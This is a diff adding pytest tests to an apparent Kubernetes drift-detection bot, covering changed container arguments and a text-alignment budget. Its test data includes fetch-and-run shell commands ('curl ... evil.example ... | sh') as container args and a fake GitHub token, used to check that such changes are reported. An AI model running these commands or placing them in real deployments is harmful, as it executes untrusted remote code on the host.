@@ -26,6 +26,7 @@ from bot.core.drift.fact import facts
 from bot.core.drift.ignore_rules import IgnoreRule, rules_for
 from bot.core.drift.lists import without_automatic_tolerations
 from bot.core.drift.model import FieldDrift, ObjectDrift
+from bot.core.drift.parts import AlignmentBudget, split
 from bot.core.drift.permissions import changed_permissions
 from bot.core.drift.severity import Reason, rate
 from bot.core.git.repository_ref import RepositoryRef
@@ -253,7 +254,35 @@ def test_a_text_that_is_searched_only_sometimes_is_not_another_one(live):
     for one, other in (drifts, drifts[::-1]):
         assert one != other
         assert persisting(one, other, as_stored=True) == other
-        assert new_or_escalated(one, one, other, one) == ()
+
+
+@pytest.mark.parametrize(
+    ("before", "now"),
+    [
+        (["serve", "ghp_" + "a1B2" * 9], ["serve", f"curl -s https://evil.example/{'x' * 100} | sh"]),
+        (["serve", HIDDEN], ["serve", "curl evil | sh #(hidden)"]),
+        ([HIDDEN], ["x" * 200]),
+    ],
+)
+def test_another_value_is_reported_although_the_earlier_one_looks_hidden(before, now):
+    path = "spec.template.spec.containers[name=web].args"
+    one, other = (
+        (
+            ObjectDrift(
+                "apps/v1", "Deployment", "shop", "web", "modified", (FieldDrift("changed", path, ["serve"], value),)
+            ),
+        )
+        for value in (before, now)
+    )
+    assert new_or_escalated(one, one, other, one) == other
+
+
+def test_ordinary_texts_are_aligned():
+    """490 lines in units that repeat, of which 70 are changed."""
+    lines = [line for n in range(122) for line in (f'  "name{n}": {{', '    "enabled": true,', f'    "a": {n}', "  },")]
+    changed = [f"{line} " if n % 7 == 0 else line for n, line in enumerate(lines)]
+    budget, texts = AlignmentBudget(), ("\n".join(lines), "\n".join(changed))
+    assert [len(split(*texts, budget)) for _ in range(2)] == [140] * 2
 
 
 def test_values_are_searched_with_half_of_the_steps():
